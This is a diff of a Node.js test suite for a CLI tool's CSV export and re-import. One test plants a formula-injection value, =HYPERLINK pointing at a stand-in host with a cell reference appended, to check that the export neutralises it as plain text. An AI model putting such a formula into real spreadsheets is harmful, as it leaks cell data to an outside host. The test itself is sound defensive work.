@@ -1,14 +1,15 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { parse } from 'csv-parse/sync';
 import { join } from 'node:path';
 import { startSimulator, DEMO_APICODE, DEMO_CID, type Simulator } from '../../electron/sandbox/simulator.ts';
 import { tempDir, testKeychainService } from '../helpers/harness.ts';
 import { cp1252, utf16le } from '../helpers/excel-bytes.ts';
 import { runCli } from './run-cli.ts';
 
-// The import's "done when" of issues 14 and 8, end to end: files as Excel writes them,
-// through the real CLI, delivered to the simulator over loopback.
+// The CSV "done when" of issues 14 and 8, end to end: files as Excel writes them, through
+// the real CLI, delivered to the simulator over loopback, and the export read back.
 
 let sim: Simulator;
 let files: ReturnType<typeof tempDir>;
@@ -113,4 +114,59 @@ test('3 rows, then the same 3 plus one: 4 reports; the same 3 in a fresh data fo
   const again = await runCli(['import', file('three-again.csv', `${header}\n${rows.join('\n')}\n`)], otherPc);
   assert.equal(again.code, 0, again.stderr);
   assert.deepEqual((await listed(otherPc)).map((e) => e.id).sort(), firstIds);
+});
+
+test('export: a =HYPERLINK description comes out as text for Excel, and the file imports again queuing nothing', async () => {
+  const env = await freshPc();
+  const hyperlink = '=HYPERLINK("http://x.invalid/?"&A1,"open")';
+  const made = await runCli(['report', '--status', 'notdisconnected', '--usageplace', 'EXP-1', '--description', hyperlink, '--time', '2024-01-04 10:41:40'], env);
+  assert.equal(made.code, 0, made.stderr);
+  const id = made.stdout.trim();
+  await runCli(['report', '--status', 'connected', '--usageplace', 'EXP-2', '--time', '2024-02-01 08:00:00'], env);
+
+  const out = join(files.dir, 'f.csv');
+  const exported = await runCli(['export', '--out', out], env);
+  assert.equal(exported.code, 0, exported.stderr);
+  assert.match(exported.stdout, /^Exported 2 reports to f\.csv\.\n$/);
+  const bytes = readFileSync(out);
+  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 with BOM');
+  const text = bytes.toString('utf8');
+  // In the file the cell is quoted, its quotes doubled, and it starts with an apostrophe:
+  // Excel shows it as the text it is, never as a formula.
+  assert.ok(text.includes(`;"'=HYPERLINK(""http://x.invalid/?""&A1,""open"")";${id};`), text);
+  const rows = parse(text, { bom: true, columns: true, delimiter: ';' }) as Record<string, string>[];
+  assert.deepEqual(rows.map((r) => [r.usageplacecode, r.description, r.id]), [['EXP-1', `'${hyperlink}`, id], ['EXP-2', '', rows[1]?.id]]);
+
+  const again = await runCli(['import', out], env);
+  assert.equal(again.code, 0, again.stderr);
+  assert.match(again.stdout, /2 rows already in the outbox, skipped; 0 queued\./);
+  assert.match(again.stderr, /Warning, line 1: Not imported, as the import does not know these columns: state, attempts/);
+  assert.equal((await listed(env)).length, 2);
+});
+
+test('export to standard output: filters, --separator, and bad options named', async () => {
+  const env = await freshPc();
+  for (const [place, time] of [['STD-1', '2024-01-04 10:41:40'], ['STD-2', '2024-01-05 08:15:00'], ['STD-3', '2024-01-06 09:00:00']]) {
+    assert.equal((await runCli(['report', '--status', 'connected', '--usageplace', place!, '--time', time!], env)).code, 0);
+  }
+  const out = await runCli(['export', '--from', '2024-01-05', '--to', '2024-01-06', '--separator', ',', '--state', 'queued'], env);
+  assert.equal(out.code, 0, out.stderr);
+  assert.ok(out.stdout.startsWith('\uFEFFstatus,usageplacecode,'));
+  assert.deepEqual((parse(out.stdout, { bom: true, columns: true }) as Record<string, string>[]).map((r) => r.usageplacecode), ['STD-2', 'STD-3']);
+  assert.match(out.stderr, /Exported 2 reports\./);
+  const tabs = await runCli(['export', '--separator', 'tab', '--to', '2024-01-04'], env);
+  assert.deepEqual((parse(tabs.stdout, { bom: true, columns: true, delimiter: '\t' }) as Record<string, string>[]).map((r) => r.usageplacecode), ['STD-1']);
+
+  const bad = await runCli(['export', '--from', '2024-02-30', '--state', 'lost', '--separator', '|'], env);
+  assert.equal(bad.code, 2);
+  assert.match(bad.stderr, /--state: Use one of queued/);
+  assert.match(bad.stderr, /--from: A day as YYYY-MM-DD/);
+  const backwards = await runCli(['export', '--from', '2024-02-02', '--to', '2024-02-01'], env);
+  assert.match(backwards.stderr, /--to: The last day comes before the first/);
+  const separator = await runCli(['export', '--separator', '|'], env);
+  assert.match(separator.stderr, /--separator: Use ";", "," or tab/);
+  assert.equal(separator.stdout, '');
+  const unwritable = await runCli(['export', '--out', join(files.dir, 'no-such-folder', 'x.csv')], env);
+  assert.equal(unwritable.code, 1);
+  assert.match(unwritable.stderr, /file_unwritable/);
 });
